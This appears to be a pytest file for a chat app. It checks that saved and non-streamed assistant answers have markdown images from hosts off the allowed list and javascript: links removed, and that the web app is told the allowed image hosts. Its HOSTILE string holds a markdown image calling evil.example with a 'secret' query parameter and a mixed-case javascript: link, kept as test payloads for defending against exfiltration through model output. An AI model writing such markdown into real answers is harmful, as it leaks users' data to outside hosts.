"""Markdown exfiltration through the chat API (issue 16): a saved answer carries no image from a host not allowed
and no scripted link, whatever the model wrote; the web app learns the allowed hosts from GET /users/me."""

from __future__ import annotations

from parley.safety.settings import SafetySettings
from tests.factories import signed_in_user
from tests.sse import answer_text, parse_events

HOSTILE = (
    "Summary ![x](https://evil.example/x?q=secret) ![ok](https://images.example.com/a.png) "
    "[a](JaVaScRiPt:alert(1)) `![kept](https://evil.example/code)`"
)
CLEANED = (
    "Summary [image from evil.example removed] ![ok](https://images.example.com/a.png) "
    "a `![kept](https://evil.example/code)`"
)


async def test_the_stored_and_returned_answer_is_rewritten(client, app, monkeypatch):
    monkeypatch.setattr(app.state.chat_engine, "image_hosts", ("images.example.com",))
    me = await signed_in_user(app, client)
    response = await client.post("/api/v1/chat", json={"message": HOSTILE}, headers=me.headers)
    events = parse_events(response.text)
    # the echo model wrote the hostile text; the web app neutralises the live stream itself
    assert answer_text(events) == HOSTILE
    conversation_id = events[0].data["conversation_id"]

    page = await client.get(f"/api/v1/chat/{conversation_id}/messages", headers=me.headers)
    assert page.status_code == 200, page.text
    answer = [m for m in page.json()["items"] if m["role"] == "assistant"]
    assert [m["content"] for m in answer] == [CLEANED]
    # the question is the user's own text, kept as written
    assert [m["content"] for m in page.json()["items"] if m["role"] == "user"] == [HOSTILE]

    plain = await client.post("/api/v1/chat", json={"message": HOSTILE, "stream": False}, headers=me.headers)
    assert plain.json()["content"] == CLEANED


async def test_the_web_app_is_told_the_allowed_image_hosts(client, app):
    me = await signed_in_user(app, client)
    assert (await client.get("/api/v1/users/me", headers=me.headers)).json()["image_hosts"] == []
    original = app.state.settings
    # Set and put back by hand: the app's state is shared by the whole session's tests.
    app.state.settings = original.model_copy(update={"safety": SafetySettings(image_hosts=["Images.Example.com"])})
    try:
        shown = (await client.get("/api/v1/users/me", headers=me.headers)).json()["image_hosts"]
    finally:
        app.state.settings = original
    assert shown == ["images.example.com"]
